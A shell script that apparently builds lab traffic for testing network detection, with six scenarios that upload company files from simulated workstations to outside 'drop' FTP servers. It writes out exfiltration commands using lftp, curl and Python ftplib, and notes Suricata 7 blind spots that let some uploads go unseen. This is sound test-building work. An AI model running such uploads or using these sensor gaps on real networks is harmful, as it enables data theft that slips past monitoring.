# FTP that nobody allowed, in the ways that are harder to follow.

take__ftps_upload() {
  take_begin ftps-upload none <<'Y'
title: Upload over FTPS (explicit AUTH TLS)
what: A workstation switches to TLS after connecting, so that user, file name and content stay hidden, and stores 1.5 MB.
kind: hostile
client: { program: lftp, package: lftp }
server: { program: ProFTPD with mod_tls, package: proftpd-core }
roles: { client: 'ws-sal:workstation', server: 'x-drop2:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 21, protocol: ftps, login: unseen, transfers: [{ name: price-list.xlsx, direction: upload, bytes: 1500000 }] }
Y
  file price-list.xlsx 1500000 zip >/dev/null
  on ws-sal lftp -u drop,Drop-it-4 -e "set dns:order inet; set ftp:ssl-force yes; set ftp:ssl-protect-data yes; set ssl:verify-certificate no; put $work/files/price-list.xlsx; bye" \
    "$(dns_name x-drop2)"
  take_end
}

take__ftp_active_upload() {
  take_begin ftp-active-upload full <<'Y'
title: Upload in active mode
what: A workstation stores contracts outside; the data connection is opened by the server (PORT).
kind: hostile
client: { program: inetutils ftp, package: inetutils-ftp }
server: { program: Pure-FTPd, package: pure-ftpd }
roles: { client: 'ws-sal:workstation', server: 'x-drop1:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 21, protocol: ftp, user: upl7, login: success, transfers: [{ name: contracts-2026.pdf, direction: upload, bytes: 57300 }] }
Y
  file contracts-2026.pdf 57300 pdf >/dev/null
  netrc ws-sal x-drop1 upl7 Qw-7781
  on ws-sal inetutils-ftp -4 "$(dns_name x-drop1)" >/dev/null <<END
binary
put $work/files/contracts-2026.pdf contracts-2026.pdf
quit
END
  take_end
}

take__ftp_ipv6() {
  take_begin ftp-ipv6 full <<'Y'
title: FTP over IPv6, extended passive and active
what: Two uploads to the IPv6 address of an unknown server, one after EPSV and one after EPRT.
kind: hostile
client: { program: curl, package: curl }
server: { program: ProFTPD, package: proftpd-core }
roles: { client: 'ws-eng:workstation', server: 'x-drop2:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, ipv6: true, port: 21, protocol: ftp, user: drop, login: success, transfers: [{ name: design-epsv.dwg, direction: upload, bytes: 44000 }] }
  - { client: client, server: server, ipv6: true, port: 21, protocol: ftp, user: drop, login: success, transfers: [{ name: design-eprt.dwg, direction: upload, bytes: 45000 }] }
Y
  file design-epsv.dwg 44000 random >/dev/null
  file design-eprt.dwg 45000 random >/dev/null
  on ws-eng curl -6 -sS -T "$work/files/design-epsv.dwg" "ftp://drop:Drop-it-4@$(dns_name x-drop2)/"
  sleep 2
  on ws-eng curl -6 -sS -P "$(address6 ws-eng)" -T "$work/files/design-eprt.dwg" \
    "ftp://drop:Drop-it-4@$(dns_name x-drop2)/"
  take_end
}

take__ftp_stou_appe() {
  take_begin ftp-stou-appe full <<'Y'
title: Store unique and append
what: One file is stored under a name that the server chooses (STOU), another one is appended to (APPE), twice.
kind: hostile
client: { program: curl and Python ftplib, package: python3 }
server: { program: ProFTPD, package: proftpd-core }
roles: { client: 'ws-fin:workstation', server: 'x-drop2:internet' }
sessions:
  - client: client
    server: server
    port: 21
    protocol: ftp
    user: drop
    login: success
    transfers:
      - { name: ledger-2026.csv, direction: upload, bytes: 15200, sees: command }
      - { name: ledger-2026.csv, direction: upload, bytes: 9100, sees: command }
  - { client: client, server: server, port: 21, protocol: ftp, user: drop, login: success, transfers: [{ name: '@1', direction: upload, bytes: 0, sees: command }] }
Y
  file part1 15200 >/dev/null
  file part2 9100 >/dev/null
  on ws-fin /usr/bin/python3 - "$(address x-drop2)" "$work/files" >"$work/printed" <<'END'
import ftplib, sys, time
server, folder = sys.argv[1:]

def store_unique(ftp, source):
    ftp.voidcmd("TYPE I")
    connection, _ = ftp.ntransfercmd("STOU")
    connection.sendall(source.read())
    connection.close()
    return ftp.voidresp() and last_name(ftp)

def last_name(ftp):
    return max((name for name, facts in ftp.mlsd(facts=["modify"]) if name.startswith("ftp")), key=len)

ftp = ftplib.FTP(server)
ftp.login("drop", "Drop-it-4")
for part in ("part1", "part2"):
    with open(f"{folder}/{part}", "rb") as source:
        ftp.storbinary("APPE ledger-2026.csv", source)
    time.sleep(1)
ftp.quit()
time.sleep(1)
ftp = ftplib.FTP(server)
ftp.login("drop", "Drop-it-4")
with open(f"{folder}/part1", "rb") as source:
    answer = store_unique(ftp, source)
ftp.quit()
print(f"{answer}\t15200")
END
  take_end
}

take__ftp_pret() {
  take_begin ftp-pret full <<'Y'
title: An upload announced with PRET
what: >-
  lftp announces its upload with PRET, as this server offers. Suricata 7 takes "PRET STOR name" for a STOR and loses
  what follows: the name is logged once, without a reply, and there is no ftp_data and no announced port.
kind: hostile
client: { program: lftp, package: lftp }
server: { program: Pure-FTPd, package: pure-ftpd }
roles: { client: 'ws-eng:workstation', server: 'x-drop1:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 21, protocol: ftp, user: upl7, login: success, transfers: [{ name: setup-helper.exe, direction: upload, bytes: 36500, sees: command }] }
Y
  file setup-helper.exe 36500 exe >/dev/null
  on ws-eng lftp -u upl7,Qw-7781 -e "set dns:order inet; set ftp:ssl-allow no; put $work/files/setup-helper.exe; bye" "$(dns_name x-drop1)"
  take_end
}

take__ftp_unseen() {
  take_begin ftp-unseen full <<'Y'
title: FTP that the sensor does not recognise
what: >-
  wput begins with AUTH TLS, is refused, and goes on in clear text. Suricata 7 does not recognise FTP when that is the
  first command: only flows are logged. This take shows the limit; no hunt is expected to find it.
kind: hostile
client: { program: wput, package: wput }
server: { program: Pure-FTPd, package: pure-ftpd }
roles: { client: 'ws-sal:workstation', server: 'x-drop1:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 21, protocol: ftp, seen: false, user: upl7, login: success, transfers: [{ name: notes-2026.txt, direction: upload, bytes: 22300, sees: nothing }] }
Y
  file notes-2026.txt 22300 >/dev/null
  (cd "$work/files" && on ws-sal wput -q notes-2026.txt "ftp://upl7:Qw-7781@$(dns_name x-drop1)/" >/dev/null)
  take_end
}
